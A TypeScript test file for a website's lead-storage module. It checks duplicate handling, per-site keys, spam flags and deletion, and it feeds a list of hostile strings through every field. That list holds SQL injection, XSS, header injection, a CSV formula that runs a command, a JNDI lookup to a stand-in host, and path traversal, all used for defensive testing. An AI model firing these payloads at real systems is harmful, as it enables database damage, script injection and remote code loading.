import { randomUUID } from "node:crypto";
import { expect, test } from "vitest";
import type { Lead } from "../../core/leads/lead.ts";
import { parseLeadForm } from "../../core/leads/lead-form.ts";
import { ana, leadTestSupport } from "../../tests/support/leads/lead-test-support.ts";
import { addLead, leadOfRequest, type NewLead } from "./store.ts";

const { deps, pool, queryRows } = await leadTestSupport();
await pool.query("INSERT INTO sites (site_id) VALUES ('other')");

function entryFor(requestKey: string, changes: Partial<NewLead> = {}): NewLead {
  const entry = { id: randomUUID(), siteId: "main", lead: ana, heldFor: [], requestHash: "hash" };
  return { ...entry, requestKey, ...changes };
}

const add = (entry: NewLead) => deps.db.transaction((tx) => addLead(tx, entry));

test("a stored request is found by its key, with its hash; another one is not", async () => {
  const entry = entryFor("key one");
  expect(await add(entry)).toBe(true);
  expect(await leadOfRequest(deps.db, "main", "key one")).toEqual({
    id: entry.id,
    requestHash: "hash",
  });
  expect(await leadOfRequest(deps.db, "main", "key two")).toBeNull();
  expect(await leadOfRequest(deps.db, "other", "key one")).toBeNull();
});

test("a request that is stored already is not written again, in no part", async () => {
  await add(entryFor("key twice"));
  const again = entryFor("key twice", { requestHash: "another" });
  expect(await add(again)).toBe(false);
  expect(await queryRows("SELECT request_hash FROM leads WHERE request_key = 'key twice'")).toEqual(
    [{ request_hash: "hash" }],
  );
  expect(await queryRows("SELECT 1 FROM lead_events WHERE lead_id = $1", [again.id])).toEqual([]);
});

test("two sites may use the same key, each for its own lead", async () => {
  expect(await add(entryFor("key shared"))).toBe(true);
  expect(await add(entryFor("key shared", { siteId: "other" }))).toBe(true);
});

test("a held lead is in the spam list with its reasons, an ordinary one is new", async () => {
  await add(entryFor("key held", { heldFor: ["hidden field filled", "3 links in the details"] }));
  await add(entryFor("key honest"));
  const rows = await queryRows(
    "SELECT request_key, status, held_for FROM leads WHERE request_key IN ('key held', 'key honest') ORDER BY 1",
  );
  expect(rows).toEqual([
    {
      request_key: "key held",
      status: "spam",
      held_for: ["hidden field filled", "3 links in the details"],
    },
    { request_key: "key honest", status: "new", held_for: [] },
  ]);
});

test("deleting a site deletes its leads and their events", async () => {
  await pool.query("INSERT INTO sites (site_id) VALUES ('gone')");
  const entry = entryFor("key gone", { siteId: "gone" });
  await add(entry);
  await pool.query("DELETE FROM sites WHERE site_id = 'gone'");
  expect(await queryRows("SELECT 1 FROM lead_events WHERE lead_id = $1", [entry.id])).toEqual([]);
});

/** Texts that could break the database, HTML, HTTP headers, calendar files, CSV, logs, or layout. */
const HOSTILE = [
  `Robert'); DROP TABLE leads;--`,
  `' OR '1'='1`,
  `$1 \\' {"a","b"} \\N NULL`,
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  "</script><script>alert(1)</script>",
  "Ana\r\nBcc: eve@elsewhere.example",
  "%0d%0aSet-Cookie: a=b",
  "BEGIN:VCALENDAR\r\nATTENDEE:mailto:eve@elsewhere.example",
  `=cmd|' /C calc'!A0`,
  "+1+1",
  "@SUM(A1)",
  `{"level":60,"msg":"forged"}`,
  "\n{}\u001b[31m",
  `\${jndi:ldap://elsewhere.example} {{7*7}} %s %n`,
  "../../etc/passwd",
  "Zoë Nguyễn 李小龍 عَلِيّ 👩‍👩‍👧‍👦",
  "Ana\u202egpj.exe",
  "Ana\u2028Ruiz\u0085Ruiz",
  "Ana\0Ruiz",
  "Ana\ud800Ruiz",
  "\uffff\ufeff\u200b",
  "__proto__",
  "NaN",
  "0",
];

test.each(HOSTILE)("%j comes back from every field as it was parsed", async (words) => {
  const asked = {
    ...ana,
    firstName: words,
    lastName: words,
    details: `${words}\n${words}`,
    accept: "on",
  };
  const read = parseLeadForm(asked, ["loan-signings"]);
  if (!read.ok) throw new Error(`refused: ${JSON.stringify(read.errors)}`);
  const source = {
    page: words.toWellFormed().replaceAll("\0", ""),
    referrer: words.toWellFormed().replaceAll("\0", ""),
    campaign: { utm_source: words.toWellFormed().replaceAll("\0", "") },
  };
  // Fields that the form parser restricts; here only the table is tested.
  const free = words.toWellFormed().replaceAll("\0", "");
  const shaped = { phone: free, email: free, zip: free, services: [free, `${free},${free}`] };
  const lead: Lead = { ...read.lead, ...shaped, source };
  const key = `hostile ${free}`;
  expect(await add(entryFor(key, { lead, heldFor: [free], requestHash: free }))).toBe(true);
  expect(await queryRows("SELECT * FROM leads WHERE request_key = $1", [key])).toEqual([
    expect.objectContaining({
      status: "spam",
      first_name: read.lead.firstName,
      last_name: read.lead.lastName,
      details: read.lead.details,
      phone: free,
      email: free,
      zip: free,
      services: [free, `${free},${free}`],
      source_page: source.page,
      referrer: source.referrer,
      campaign: source.campaign,
      held_for: [free],
      request_hash: free,
    }),
  ]);
  expect(read.lead.firstName).toBe(
    words
      .toWellFormed()
      .replace(/\p{Cc}+/gu, " ")
      .trim(),
  );
});
